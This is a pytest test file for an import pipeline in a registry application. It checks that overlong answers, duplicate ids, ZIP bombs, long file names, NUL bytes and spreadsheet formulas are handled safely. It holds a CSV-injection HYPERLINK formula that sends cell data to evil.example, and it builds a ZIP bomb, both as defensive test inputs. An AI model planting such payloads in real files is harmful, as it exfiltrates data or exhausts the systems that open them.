"""Limits on what an import takes in: answers and ids no longer than the registry keeps (held, with the
reason, on both databases), every form of a repeated id kept in quarantine, ZIP archives that expand too
far refused, long file names, formulas in the error report shown as text."""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from inklusi.access.model import Principal
from inklusi.app import create_app
from inklusi.errors import Invalid
from inklusi.instrument import service
from inklusi.instrument.model import load
from inklusi.instrument.service import reports
from inklusi.instrument.submissions import read
from inklusi.instrument.synthetic import from_synthetic, write_jsonl
from inklusi.registry import service as registry
from tests.conftest import csrf_of, login
from tests.instrument.odk import write_odk_zip

SYSTEM = Principal.system("tests")
INSTRUMENT = load()
MIB = 1 << 20
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def jsonl_forms(population, tmp_path: Path, count: int = 4) -> list[dict]:
    path = write_jsonl(from_synthetic(population, INSTRUMENT, 1), tmp_path / "all.jsonl")
    return [json.loads(line) for line in path.read_text().splitlines()[:count]]


def write(forms: list[dict], path: Path) -> Path:
    path.write_text("".join(json.dumps(form) + "\n" for form in forms))
    return path


def codes(held_form) -> set[tuple[object, str, str]]:
    return {(issue["member"], issue["question"], issue["code"]) for issue in held_form.issues}


def test_overlong_names_addresses_and_ids_are_held_with_their_reason(ctx, population, tmp_path):
    """Accepted before: 100,000 characters in a name, an address, a submission id."""
    forms = jsonl_forms(population, tmp_path)
    long_name, long_address, long_id = forms[0], forms[1], forms[2]
    long_name["members"][0]["r402"] = "A" * 100_000
    long_address["r107"] = "Jalan " + "x" * 100_000
    long_id["submission_id"] = "u" * 100_000
    result = service.import_file(ctx, SYSTEM, write(forms, tmp_path / "long.jsonl"))
    held = {
        form.record.get("submission_id"): form for form in service.held_forms(ctx, SYSTEM, result.batch_id)
    }
    assert (1, "r402", "text.too_long") in codes(held[long_name["submission_id"]])
    assert (None, "r107", "text.too_long") in codes(held[long_address["submission_id"]])
    assert (None, "", "submission.id_too_long") in codes(held["u" * 100_000])  # kept whole, to be corrected
    assert len(held[long_name["submission_id"]].record["members"][0]["r402"]) == 100_000
    name_issue = next(i for i in held[long_name["submission_id"]].issues if i["code"] == "text.too_long")
    assert name_issue["message"]["en"] == "The answer is 100000 characters long; at most 200 are kept"
    assert "100000" in name_issue["message"]["id"] and "200" in name_issue["message"]["id"]
    held = list(held.values())
    assert all(len(i["message"]["en"]) < 300 for f in held for i in f.issues)
    assert result.held == 3 and result.accepted == len(forms) - 3
    assert "A" * 300 not in str([hit.name for hit in registry.browse_area(ctx, SYSTEM, "")])


def test_two_forms_with_the_same_id_are_both_kept_in_quarantine(ctx, population, tmp_path):
    """``held.jsonl`` kept one of them: the other was lost."""
    forms = jsonl_forms(population, tmp_path)
    twin = dict(forms[1], submission_id=forms[0]["submission_id"])
    nameless = [dict(forms[2], submission_id=None), dict(forms[3], submission_id=None)]
    result = service.import_file(ctx, SYSTEM, write([forms[0], twin, *nameless], tmp_path / "twins.jsonl"))
    _report, held_file = reports.batch_reports(ctx, SYSTEM, result.batch_id)
    kept = [json.loads(line) for line in held_file.splitlines()]

    def fingerprint(form):  # the file's answers as read (text), each form with its own members
        return (form.get("submission_id") or "", str(form["r107"]), tuple(m["r402"] for m in form["members"]))

    assert sorted(map(fingerprint, kept)) == sorted(map(fingerprint, [forms[0], twin, *nameless]))
    assert result.held == 4 and service.get_batch(ctx, SYSTEM, result.batch_id).held == 4


def test_a_zip_that_expands_too_far_is_refused(population, tmp_path):
    """195 KB expanding to 200 MB was read without a limit; here 20 MB of zeros in 20 KB."""
    bomb = tmp_path / "round.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("regsosek22k.csv", b"r101\n" + b"0" * (20 * MIB))
    with pytest.raises(Invalid) as refused:
        read(bomb, INSTRUMENT)
    assert "ZIP bomb" in refused.value.text.render("en") and "round.zip" in refused.value.text.render("id")
    forms = write_odk_zip(from_synthetic(population, INSTRUMENT, 1), INSTRUMENT, tmp_path / "ok.zip")
    assert len(read(forms, INSTRUMENT)) > 0  # a real export is far inside the defaults
    from inklusi.instrument.containers import ReadLimits

    with pytest.raises(Invalid, match="more than 0 MB"):
        read(forms, INSTRUMENT, ReadLimits(max_unpacked_bytes=1000))


def test_the_unpacked_size_limit_is_a_setting(ctx, tmp_path):
    stored = tmp_path / "big.zip"  # 2 MB, not compressed: only the size limit can refuse it
    with zipfile.ZipFile(stored, "w") as archive:
        archive.writestr("regsosek22k.csv", "r101\n" + "31\n" * MIB)
    small = type(ctx)(
        ctx.settings.model_copy(update={"import_max_unpacked_mb": 1}), ctx.engine, ctx.audit_key
    )
    with pytest.raises(Invalid, match="more than 1 MB"):
        service.import_file(small, SYSTEM, stored)


def test_a_formula_in_an_answer_is_text_in_the_error_report(ctx, population, tmp_path):
    forms = jsonl_forms(population, tmp_path)
    forms[0]["members"][0]["r402"] = FORMULA  # breaks the name's pattern: in the report with its value
    forms[1]["members"][0]["r402"] = "@SUM(1+1)"
    forms[2]["members"][0]["r402"] = "-2+3"
    result = service.import_file(ctx, SYSTEM, write(forms, tmp_path / "formula.jsonl"))
    report, _held = reports.batch_reports(ctx, SYSTEM, result.batch_id)
    values = [row["value"] for row in csv.DictReader(io.StringIO(report)) if row["question"] == "r402"]
    assert sorted(values) == sorted(["'" + FORMULA, "'@SUM(1+1)", "'-2+3"])
    assert not any(line.startswith(("=", "+", "-", "@")) for line in report.replace(",", "\n").splitlines())


@pytest.mark.parametrize("backend", ["sqlite"])
def test_a_300_character_file_name_is_imported_and_leaves_no_folder(settings, ctx, population, tmp_path):
    """A 300-character name was a 500 and an empty folder in ``uploads/``."""
    path = write_jsonl(from_synthetic(population, INSTRUMENT, 1), tmp_path / "round.jsonl")
    name = "r" * 300 + ".jsonl"
    with TestClient(create_app(settings), base_url="https://testserver") as client:
        login(client)
        page = client.get("/imports")
        started = client.post(
            "/imports",
            data={"csrf_token": csrf_of(page.text)},
            files={"file": (name, path.read_bytes(), "application/x-ndjson")},
            follow_redirects=False,
        )
        assert started.status_code == 303
        for _ in range(600):
            answer = client.get(started.headers["location"], headers={"HX-Request": "true"})
            if "HX-Redirect" in answer.headers:
                break
            assert "failed" not in answer.text, answer.text
            time.sleep(0.1)
        result = client.get(answer.headers["HX-Redirect"])
        assert result.status_code == 200 and "r" * 90 in result.text and "r" * 101 not in result.text
    assert list((settings.data_dir / "uploads").iterdir()) == []


def test_a_nul_or_a_nik_of_letters_is_held_not_a_failed_import(ctx, population, tmp_path):
    """PostgreSQL refuses NUL in text (the whole import failed); a NIK of letters broke the NIK checks."""
    forms = jsonl_forms(population, tmp_path)
    forms[0]["members"][0]["r402"] = "Bu\x00di"
    forms[1]["submission_id"] = "id\x00"
    forms[2]["members"][0]["r403"] = "abc"
    result = service.import_file(ctx, SYSTEM, write(forms, tmp_path / "nul.jsonl"))
    held = {
        form.record.get("submission_id"): form for form in service.held_forms(ctx, SYSTEM, result.batch_id)
    }
    assert (1, "r402", "text.control") in codes(held[forms[0]["submission_id"]])
    assert (None, "submission_id", "text.control") in codes(held["id\x00"])
    assert (1, "r403", "pattern") in codes(held[forms[2]["submission_id"]])
    assert result.accepted == 1
